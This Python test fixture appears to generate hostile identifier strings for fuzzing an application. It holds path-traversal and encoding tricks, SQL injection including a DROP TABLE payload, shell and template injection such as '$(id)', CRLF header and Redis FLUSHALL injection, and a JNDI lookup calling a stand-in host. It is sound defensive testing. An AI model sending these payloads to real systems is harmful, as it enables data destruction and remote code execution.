"""Ids that would be a path, a statement, a header or a command to something that is careless with them.

What must not live here: where they are sent (`test_hostile_ids.py`).
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote, quote_from_bytes

PATHS: Final = (
    *("..", ".", "../x", "..\\x", "/", "//", "/etc/passwd", "//evil.example/x", "a/../../b", "..;/x", "./.", "...//"),
    *("C:\\x", "\\\\evil.example\\share", "file:///etc/passwd", "~", "~root/x", "runs.db", "../runs.db", "runs.db-wal"),
)
ESCAPES: Final = (
    *("%2e%2e", "%2e%2e%2f", "..%2f", "%252e%252e%252f", "%c0%ae%c0%ae", "%c0%af", "%e0%80%ae", "%u002e", "%5c..%5c"),
    *("%00", "a%00b", "%0a", "%0d%0aSet-Cookie:x=1", "%", "%%", "%z", "%ff", "%1frequests", "%ed%a0%80", "%2500"),
)
STATEMENTS: Final = (
    *("'", '"', "`", "' OR '1'='1", "'; DROP TABLE agentflow_app; --", '" OR ""="', "x' UNION SELECT * FROM x --"),
    *("\\'", "/*", "*/", "--", ";", "%' ESCAPE '", "1 OR 1", ":app", "$1", "?", "x'||y", "EVAL", "*\r\nFLUSHALL\r\n"),
)
CONTROLS: Final = (
    *("\0", "a\0b", "\x01", "\x1b[31m", "\x1frequests", "a\nb", "a\n", "\na", "a\rb", "a\tb", " a", "a ", " ", "\x7f"),
    *("\x85", "\xa0", "\u2028", "\u2029", "\u200b", "\ufeff", "\u202e", "\ufffe", "\U000e0001"),
)
SURROGATES: Final = ("\ud800", "\udfff", "a\udc80b", "\udc00\ud800", "\ud800/..")
LOOKALIKES: Final = (
    *("\u0430", "\uff41", "\u212a", "\ufb01", "a\u0301", "\u0661", "\uff0e\uff0e\uff0f", "\u2024\u2024/", "\u2215"),
    *("\uff0f", "\u2044", "\uff3c", "\u02bc", "\uff07", "\u2010", "\u2011", "\uff3f", "\u0131", "\u017f", "\U0001f600"),
)
COMMANDS: Final = (
    *(
        "${x}",
        "$(id)",
        "`id`",
        "|id",
        "&& id",
        "> x",
        "{{7*7}}",
        "{0.__class__}",
        "%s%n",
        "<script>",
        "<!--",
        "*",
        "[x]",
    ),
    *("${jndi:ldap://evil.example/x}", "a:b", "a,b", "a&b=c", "a=b", "a#b", "a@b", "a+b", "a!", "^a", "(a)", "{}"),
)
#: An id may be these; that it reaches nothing has to be seen all the same.
ALLOWED: Final = (
    *("...", "....", ".a", "a.", "..a", "a..", "-", "--help", "-rf", "_", "__init__", "__proto__", "constructor"),
    *("CON", "nul.txt", "null", "None", "0", "-1", "1e3", "state", "applications", ".env", ".git", "a" * 128),
)
LONG: Final = ("a" * 129, "." * 129, "a" * 10_000, "\xe9" * 128, "../" * 500, "%2e" * 500)
EVERY: Final = (*PATHS, *ESCAPES, *STATEMENTS, *CONTROLS, *SURROGATES, *LOOKALIKES, *COMMANDS, *ALLOWED, *LONG)


def hostile_ids(count: int) -> Iterator[str]:
    """So many different ids: each of those above, then what chance puts together of them."""
    yield from EVERY[:count]
    seen, chance = set(EVERY), random.Random(20)
    while len(seen) < count:
        made = "".join(chance.choices(EVERY[: -len(LONG)], k=chance.randint(2, 5)))
        if made not in seen:
            seen.add(made)
            yield made


def in_address(text: str, once_more: bool) -> str:
    """A text as it is put into an address: as it is, where that can be sent at all, or escaped once more."""
    if once_more:
        return quote(text, safe="", errors="surrogatepass")
    return quote_from_bytes(text.encode("utf-8", "surrogatepass"), safe="/%:;,@&=+$!*'()[]\"<>|\\^`{}~")
